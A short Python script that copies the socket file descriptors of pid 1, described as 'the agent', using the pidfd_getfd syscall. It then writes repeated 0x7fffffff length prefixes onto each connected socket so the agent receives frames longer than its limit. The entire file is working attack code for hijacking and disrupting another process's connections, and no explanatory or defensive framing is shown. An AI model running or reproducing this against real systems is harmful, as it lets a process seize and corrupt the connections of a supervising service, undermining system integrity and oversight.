"""Takes the connections of the agent, which is pid 1, and sends frames on them that are longer than the limit."""

import ctypes
import os
import socket

PIDFD_GETFD = 438
pidfd = os.pidfd_open(1)
for name in os.listdir("/proc/1/fd"):
    if not os.readlink(f"/proc/1/fd/{name}").startswith("socket:"):
        continue
    descriptor = ctypes.CDLL(None).syscall(PIDFD_GETFD, pidfd, int(name), 0)
    taken = socket.socket(fileno=descriptor)
    if not taken.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
        os.write(descriptor, b"\x7f\xff\xff\xff" * 8)
    taken.detach()
